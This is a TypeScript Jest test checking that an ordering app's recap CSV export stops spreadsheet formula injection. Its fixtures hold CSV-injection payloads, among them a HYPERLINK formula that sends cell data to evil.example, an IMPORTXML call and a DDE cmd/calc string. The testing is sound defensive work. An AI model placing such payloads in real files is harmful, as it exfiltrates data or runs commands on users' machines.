import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { Order, Person, Umkm } from '../../../src/domain/schemas.js';
import { RECAP_CSV_HEADER, recapCsv } from '../../../src/reports/recap.js';

// Text a buyer, an owner or an admin can type, each trying to start a cell with a formula in a
// spreadsheet that splits on `,`, `;` or tab.
const HOSTILE = {
  asnName: 'Andi;=HYPERLINK("http://evil.example/?"&A1,"klik")',
  opd: 'Dinas, @SUM(A1:A9)',
  umkmName: 'Kue Bu Sri; =1+1',
  kecamatan: 'Beji\t-2+3',
  product: "Roti;+cmd|' /C calc'!A0",
  postLink: 'https://www.instagram.com/p/x/;=IMPORTXML("http://evil.example","//a")',
  quoted: 'Madu; "=2+2"',
  newline: 'Keripik\n=3+3',
};

const person: Person = { nip: '198001012005011001', name: HOSTILE.asnName, phone: '+6281100000001', opd: HOSTILE.opd, role: 'asn' };
const umkm: Umkm = {
  id: 'U1',
  name: HOSTILE.umkmName,
  ownerName: 'Sri',
  ownerPhone: '+6281200000001',
  category: 'kuliner',
  kecamatan: HOSTILE.kecamatan,
  kelurahan: 'Beji',
  address: 'Jl. Margonda 1',
};
const order = (id: string, items: { name: string }[], postLink?: string): Order =>
  ({
    id,
    asnNip: person.nip,
    umkmId: 'U1',
    status: 'paid',
    total: 25000,
    items: items.map((it) => ({ sku: 'P1', name: it.name, price: 25000, qty: 1 })),
    ...(postLink ? { postLink } : {}),
    recipient: { name: '=Siti Wulan', phone: '+6281300000001', address: 'Jl. X', kelurahan: 'Beji', kecamatan: '@Beji' },
    reportedTo: {},
    createdAt: '2026-11-23T03:00:00.000Z',
    updatedAt: '2026-11-23T03:00:00.000Z',
  }) as Order;

const csv = recapCsv([order('O-1', [{ name: HOSTILE.product }, { name: HOSTILE.quoted }], HOSTILE.postLink), order('O-2', [{ name: HOSTILE.newline }])], {
  persons: new Map([[person.nip, person]]),
  umkms: new Map([[umkm.id, umkm]]),
});

/** The cells a spreadsheet sees when it splits the file on `delimiter` (quotes honoured only where a cell opens with one). */
const cellsWith = (delimiter: string) => (parse(csv, { delimiter, relax_quotes: true, relax_column_count: true, skip_empty_lines: true }) as string[][]).flat();

describe('recap CSV opened in a spreadsheet', () => {
  it.each([
    ['comma', ','],
    ['semicolon (Indonesian Excel)', ';'],
    ['tab', '\t'],
  ])('split on %s: no cell starts a formula', (_name, delimiter) => {
    const cells = cellsWith(delimiter);
    expect(cells.length).toBeGreaterThan(3); // more cells than rows: the split happened
    const formulas = cells.filter((c) => /^[\s"]*[=+\-@]/.test(c));
    expect(formulas).toEqual([]);
  });

  it('split on comma: one row per order, every column in place, the text still readable', () => {
    const rows = parse(csv, { delimiter: ',' }) as string[][];
    expect(rows[0]).toEqual([...RECAP_CSV_HEADER]);
    expect(rows).toHaveLength(3);
    for (const r of rows) expect(r).toHaveLength(RECAP_CSV_HEADER.length);
    const col = (name: (typeof RECAP_CSV_HEADER)[number]) => rows[1]![RECAP_CSV_HEADER.indexOf(name)];
    expect(col('umkm_name')).toBe("Kue Bu Sri;' =1+1");
    expect(col('asn_name')).toContain('Andi;');
    expect(col('asn_name')).toContain('HYPERLINK');
    expect(col('post_link')).toMatch(/^https:\/\/www\.instagram\.com\/p\/x\/;'/);
    expect(col('total')).toBe('25000');
    expect(col('recipient_name_masked')).not.toMatch(/^=/);
    expect(rows[2]![RECAP_CSV_HEADER.indexOf('items')]).toBe('1x Keripik =3+3');
  });
});
